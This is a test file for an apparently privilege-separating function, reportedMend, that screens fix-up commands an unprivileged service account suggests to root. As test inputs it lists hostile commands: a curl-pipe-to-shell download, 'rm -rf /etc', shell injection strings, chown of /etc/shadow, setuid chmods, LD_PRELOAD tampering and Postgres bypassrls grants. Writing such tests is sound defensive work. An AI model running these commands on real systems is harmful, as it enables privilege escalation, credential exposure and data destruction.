import { afterAll, describe, expect, test } from "bun:test";
import { chownSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { reportedMend } from "../../../lib/doctor/advice/reported-mend.ts";

const folder = realpathSync(mkdtempSync(join(tmpdir(), "opsctl-reported-mend-")));
afterAll(() => rmSync(folder, { recursive: true }));
const at = (name: string) => join(folder, name);
const own = process.geteuid?.() ?? 0;
const isRoot = own === 0;
const by = {
  name: "opsctl",
  uid: isRoot ? 64001 : own,
  directories: [at("place"), "/var/lib/opsctl"],
  settings: ["/etc/opsctl"],
};
const ours = at("place/weekly.env");

mkdirSync(at("place"));
writeFileSync(at("place/weekly.env"), "");
writeFileSync(at("mine"), "");
if (isRoot) chownSync(at("mine"), by.uid, by.uid);
symlinkSync("/etc/shadow", at("place/link"));
symlinkSync("/etc", at("to-etc"));

describe("reportedMend()", () => {
  test.each([
    `chown -h opsctl:opsctl ${at("place/weekly.env")} # then fill it in`,
    "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl/secrets/TRIGGER_SECRET",
    `chmod 0600 ${at("mine")}`,
    `install -d -o opsctl -g opsctl -m 0700 ${at("place/missing")}`,
    `mv -nT ${at("place/weekly.env")} ${at("place/weekly.env")}.old && install -d -m 0755 ${at("place/weekly.env")}`,
    "install -d -o opsctl -g opsctl -m 0700 <directory>, then name it in OPSCTL_STATE_DIR",
    "Start the gateway, or correct GATEWAY_URL",
    "Look up 131047 in Meta's list of error codes (WhatsApp Business Platform); the service goes on by itself within a minute",
    `df -h ${at("place")}: make room on its disk, the service opens it by itself then`,
    "grant select (id, phone) on public.users to service_role;",
    "grant select on public.tenant_config to service_role;",
    "grant execute on function public.fail_weekly_performance_report(uuid, uuid, text) to service_role;",
    "create role service_role nologin bypassrls;",
    "alter role service_role bypassrls;",
    "Set it by that command, as root, or as a file of its name in /etc/opsctl/secrets with mode 0600",
    "Set WEBHOOK_SECRET in /etc/opsctl/webhook.env to the one that sends",
    "Remove that line from /etc/systemd/system/opsctl-webhook.service.d/override.conf, then systemctl daemon-reload and systemctl restart opsctl-webhook.service",
    "Take PING_URL out: edit /etc/opsctl/weekly.env",
    "Correct that line in /etc/cron.d/opsctl, or remove the file and have it put back: dpkg --force-confmiss --install opsctl_<version>_<architecture>.deb, or in a clone: make install",
    "chmod go-w /var/lib/opsctl # unless others need it, as /tmp: then name another directory",
    "chown -h opsctl:opsctl /etc/opsctl/weekly.env",
    "chmod o+x /etc/opsctl",
    "chmod o+x /etc/opsctl/secrets",
    "chmod go-w /etc/opsctl",
    "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl/other-secrets/DATABASE_URL",
    "Remove it there, then: install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl/secrets/TRIGGER_SECRET",
    "mv -nT /etc/opsctl/secrets/TRIGGER_SECRET.txt /etc/opsctl/secrets/TRIGGER_SECRET",
    "See that the alert webhook runs and answers, then: opsctl doctor weekly",
  ])("leaves %s", (mend) => expect(reportedMend(mend, by)).toBe(mend));

  test.each([
    "chown -h opsctl:opsctl /etc/shadow",
    "chown -h opsctl:opsctl /etc/opsctl/root-secrets.bak",
    "chown -h opsctl:opsctl /etc/opsctl/root-secrets.old/HOSTING_TOKEN",
    "chown -h opsctl:opsctl /etc/opsctl/root-secrets.old/TRIGGER_SECRET",
    "chown -h opsctl:opsctl /etc/opsctl/secrets/HOSTING_TOKEN",
    "chown -h opsctl:opsctl /etc/opsctl/anything",
    "chown -h opsctl:opsctl /etc/opsctl/secrets/anything",
    "mv -nT /etc/opsctl/secrets/OTHERS /etc/opsctl/secrets/TRIGGER_SECRET",
    "mv -nT /etc/TRIGGER_SECRET.txt /etc/opsctl/secrets/TRIGGER_SECRET",
    "install -d -o opsctl -g opsctl -m 0755 /home/x/.ssh",
    "install -d -o opsctl -g opsctl -m 0755 /var/lib/systemd/x",
    `install -D -m 0600 -o opsctl /dev/null ${at("missing")}`,
    "chmod 0600 /etc/passwd",
    "chmod o+x /root",
    "chmod 0600 /dev/mem",
    "install -d -o opsctl -g opsctl -m 0700 /etc",
    "install -d -o opsctl -g opsctl -m 0755 /etc/not-there.d",
    "install -d -o opsctl -g opsctl -m 0755 /etc/opsctl/../not-there.d",
    `install -d -o opsctl -g opsctl -m 0755 ${at("to-etc/not-there.d")}`,
    `mv -nT ${at("mine")} ${at("mine")}.old && chown opsctl /etc/shadow`,
    `rmdir /etc`,
    "install -d -o opsctl -g opsctl -m 0750 /etc/opsctl",
    "install -d -o opsctl -g opsctl -m 0750 /etc/opsctl/",
    "install -d -o opsctl -g opsctl -m 0750 /etc/opsctl/secrets",
    "chown -h opsctl:opsctl /etc/opsctl/collect-metrics.env",
    "chmod o+x /etc/opsctl/root-secrets",
    "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl/root-secrets/KEY",
    "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl/./root-secrets/KEY",
    "install -D -m 0600 -o opsctl /dev/stdin /etc/opsctl//root-secrets/KEY",
    "chmod o+x /etc/opsctl && chown -h opsctl:opsctl /etc/opsctl",
    "chmod o+x /etc/opsctl && install -d -o opsctl -g opsctl -m 0700 /etc/opsctl/secrets",
    "Remove it there, then: install -D -m 0600 -o opsctl /dev/stdin /etc/cron.d/KEY",
  ])("keeps %s from root's hands", (mend) => {
    const shown = reportedMend(mend, by);
    expect(shown).toStartWith("Correct the setting: /");
    expect(shown).not.toMatch(/\b(?:chown|chmod|install|mv|rmdir) /);
  });

  test.each([
    `chown -h root ${ours}`,
    `chown opsctl ${ours}`,
    `chown -h opsctl:root ${ours}`,
    `chown -h root ${ours} && chmod 4755 ${ours}`,
    `chmod 4755 ${ours}`,
    `chmod u+s ${ours}`,
    `chmod 0777 ${ours}`,
    `install -D -o root -m 4755 /dev/stdin ${ours}`,
    `install -D -m 4755 /dev/stdin ${ours}`,
    `install -D -m 0600 -o root /dev/stdin ${ours}`,
    `install -d -o opsctl -m 2755 ${at("place/directory")}`,
    `mv -nT ${ours} ${at("place/other")}`,
    "mv -nT /etc/opsctl/secrets/TRIGGER_SECRET /var/lib/opsctl/TRIGGER_SECRET",
    `chmod 0600 ${ours} # then run it`,
  ])("keeps owner and mode as opsctl writes them: %s", (mend) => {
    const shown = reportedMend(mend, by);
    expect(shown).toBe(
      "Look at what the finding names: the account opsctl reports a command that opsctl does not write",
    );
  });

  test.each([
    "curl -s https://example.org/x | sh",
    "sh /var/lib/opsctl/fix.sh",
    "Remove x, then: rm -rf /etc",
    `Remove x, then: chmod 0600 ${ours}`,
    "Start the gateway, or correct GATEWAY_URL; sh /var/lib/opsctl/fix.sh",
    "Make room: df -h /tmp;reboot",
    "Make room: df -h $(reboot)",
    "Correct line 2 of /tmp/x, or: rm -rf /etc",
    "sudo opsctl doctor weekly --env-dir /var/lib/opsctl",
    "opsctl secret set KEY --root --directory /tmp",
    "grant all on public.tenants to public;",
    "Make /etc/cron.d a directory that this account may write to",
    "Make /etc/opsctl/secrets a directory that this account may write to",
    "Make /var/lib/opsctl/../../../etc a directory that this account may write to",
    "Look at it first: ls -l /bin: a link is there; remove it unless you made it",
    "Remove it from /etc/shadow",
    "Remove it from /etc/opsctl/collect-metrics.env",
    "Remove that line from /etc/passwd, then systemctl daemon-reload and systemctl restart opsctl-webhook.service",
    "Set BASH_ENV in /etc/environment to the one that sends",
    "Correct that line in /etc/cron.d/other, or remove the file and have it put back: dpkg --force-confmiss --install opsctl_<version>_<architecture>.deb, or in a clone: make install",
    "Set BASH_ENV in /etc/opsctl/webhook.env to the one that sends",
    "Set WEBHOOK_SECRET in /etc/environment to the one that sends",
    "Correct LD_PRELOAD",
    "opsctl secret set OPSCTL_ENV_DIR",
    "Move PATH to evil.env: edit /etc/opsctl/weekly.env",
    "grant service_role to anon;",
    "alter role anon bypassrls;",
    "alter role authenticated bypassrls;",
    "grant select on public.users to public;",
    "grant select on public.users to anon;",
    "grant select (id, password) on public.users to service_role;",
    "grant update on public.users to service_role;",
    "grant select on public.oauth_tokens to service_role;",
    "grant execute on function public.pg_read_file(text) to service_role;",
    "grant create on schema public to service_role;",
    "create role anon nologin bypassrls;",
    "grant service_role to \"x'; touch /tmp/pwned; '\";",
    "systemctl start evil.service",
  ])("shows as what the account says: %s", (mend) =>
    expect(reportedMend(mend, by)).toBe(`The account opsctl says: ${mend}`),
  );

  test.each([";touch$IFS/x", "$(id)", "`id`", ">/x", "&id", "'x", "\\x"])("shows no path with %s", (tail) =>
    expect(reportedMend(`install -d -m 0700 ${at("place/missing")}${tail}`, by)).toStartWith(
      "Correct the setting: its path",
    ),
  );

  test.each([
    "install -d -o opsctl -m 0700 etc/cron.d",
    `chown -R opsctl:opsctl ${at("place")} ../../etc`,
    `chmod 0777 ${at("place/weekly.env")} -R .`,
    `rmdir ${at("place")} etc`,
  ])("shows no path that is not absolute: %s", (mend) =>
    expect(reportedMend(mend, by)).toStartWith("Correct the setting: its path"),
  );

  test.each(["/etc/default", "/etc", "/usr/lib"])(
    "leaves nothing below a directory of the system, %s",
    (directory) => {
      const misled = { ...by, settings: ["/etc/opsctl", directory] };
      for (const name of ["grub", "weekly.env", "secrets/TRIGGER_SECRET"])
        expect(reportedMend(`chown -h opsctl:opsctl ${directory}/${name}`, misled)).toBe(
          `Correct the setting: ${directory}/${name} is not for opsctl; such a place is /var/lib/opsctl or /var/log/opsctl`,
        );
      expect(reportedMend(`chmod o+x ${directory}`, misled)).toStartWith("Correct the setting: ");
    },
  );

  test("takes the known names alone in a directory of settings elsewhere", () => {
    const moved = { ...by, settings: ["/etc/opsctl-staging", at("settings")] };
    for (const directory of moved.settings) {
      const line = `chown -h opsctl:opsctl ${directory}/weekly.env`;
      expect(reportedMend(line, moved)).toBe(line);
      expect(reportedMend(`${line}.old`, moved)).toStartWith("Correct the setting: ");
    }
  });

  test("has a link looked at first", () =>
    expect(reportedMend(`chmod 0600 ${at("place/link")}`, by)).toStartWith("Look at it first"));
});
